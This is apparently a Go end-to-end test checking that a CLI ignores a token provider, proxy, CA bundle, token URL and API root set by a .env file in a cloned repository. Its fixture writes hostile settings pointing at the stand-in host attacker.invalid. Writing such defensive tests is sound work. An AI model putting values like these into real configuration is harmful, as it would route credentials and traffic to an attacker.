package e2e

import (
	"bytes"
	"context"
	"encoding/json"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// runIn runs the binary in dir with c's environment and extra.
func (c *cli) runIn(dir string, extra map[string]string, args ...string) result {
	c.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, binary, args...)
	cmd.Dir = dir
	cmd.Env = c.environ(extra)
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	_ = cmd.Run()
	return result{stdout: out.String(), stderr: errb.String(), code: cmd.ProcessState.ExitCode()}
}

// A .env in the current directory (a cloned repository) cannot run a
// program, route traffic or change trust: its token provider, proxies, CA
// bundles, auth endpoints and unknown API root are ignored with one warning
// line; ~/.aignostics/.env still sets them.
func TestUntrustedWorkDirEnv(t *testing.T) {
	t.Parallel()
	h := newHostileServer(t)
	h.handle("GET /api/v1/runs", func(w http.ResponseWriter, r *http.Request) { writeJSON(w, 200, []any{}) })
	c := newCLI(t, nil)
	delete(c.env, "AIGNOSTICS_ENV_FILE")
	marker := filepath.Join(t.TempDir(), "provider-ran")
	provider := writeScript(t, "provider", `touch "`+marker+`"; echo tok`)
	repo := t.TempDir()
	env := strings.Join([]string{
		"AIGNOSTICS_TOKEN_PROVIDER=" + provider,
		"HTTPS_PROXY=http://attacker.invalid:3128",
		"REQUESTS_CA_BUNDLE=" + filepath.Join(repo, "ca.pem"),
		"AIGNOSTICS_TOKEN_URL=http://attacker.invalid/oauth/token",
		"AIGNOSTICS_API_ROOT=https://attacker.invalid",
	}, "\n") + "\n"
	if err := os.WriteFile(filepath.Join(repo, ".env"), []byte(env), 0o644); err != nil {
		t.Fatal(err)
	}

	r := c.runIn(repo, nil, "-o", "json", "platform", "info")
	if r.code != 0 {
		t.Fatalf("platform info: exit %d, stderr %q", r.code, r.stderr)
	}
	if n := strings.Count(r.stderr, "warning"); n != 1 || strings.Count(strings.TrimSpace(r.stderr), "\n") != 0 ||
		!strings.Contains(r.stderr, "AIGNOSTICS_TOKEN_PROVIDER") || strings.Contains(r.stderr, "attacker") {
		t.Errorf("stderr %q, want one warning line naming the ignored keys, not their values", r.stderr)
	}
	var info []struct{ Name, Value string }
	if err := json.Unmarshal([]byte(r.stdout), &info); err != nil {
		var obj struct {
			Settings []struct{ Name, Value string }
		}
		if err2 := json.Unmarshal([]byte(r.stdout), &obj); err2 != nil {
			t.Fatalf("platform info printed %s (%v)", r.stdout, err)
		}
		info = obj.Settings
	}
	for _, e := range info {
		if strings.Contains(e.Value, "attacker") || (e.Name == "AIGNOSTICS_TOKEN_PROVIDER" && e.Value != "") {
			t.Errorf("platform info shows %s=%s from the untrusted .env", e.Name, e.Value)
		}
	}

	// The environment chooses the server; ./.env's provider must not run.
	r = c.runIn(repo, map[string]string{"AIGNOSTICS_API_ROOT": h.URL}, "-o", "json", "runs", "list")
	if r.code != 4 {
		t.Errorf("runs list with only ./.env's provider: exit %d, stderr %q; want 4 (no token)", r.code, r.stderr)
	}
	if _, err := os.Stat(marker); err == nil {
		t.Fatal("the token provider from ./.env was run")
	}

	// The same provider in ~/.aignostics/.env is trusted.
	if err := os.MkdirAll(filepath.Join(c.home, ".aignostics"), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(c.home, ".aignostics", ".env"), []byte("AIGNOSTICS_TOKEN_PROVIDER="+provider+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	r = c.runIn(repo, map[string]string{"AIGNOSTICS_API_ROOT": h.URL}, "-o", "json", "runs", "list")
	if r.code != 0 {
		t.Errorf("runs list with the home file's provider: exit %d, stderr %q", r.code, r.stderr)
	}
	if _, err := os.Stat(marker); err != nil {
		t.Error("the token provider from ~/.aignostics/.env did not run")
	}
}
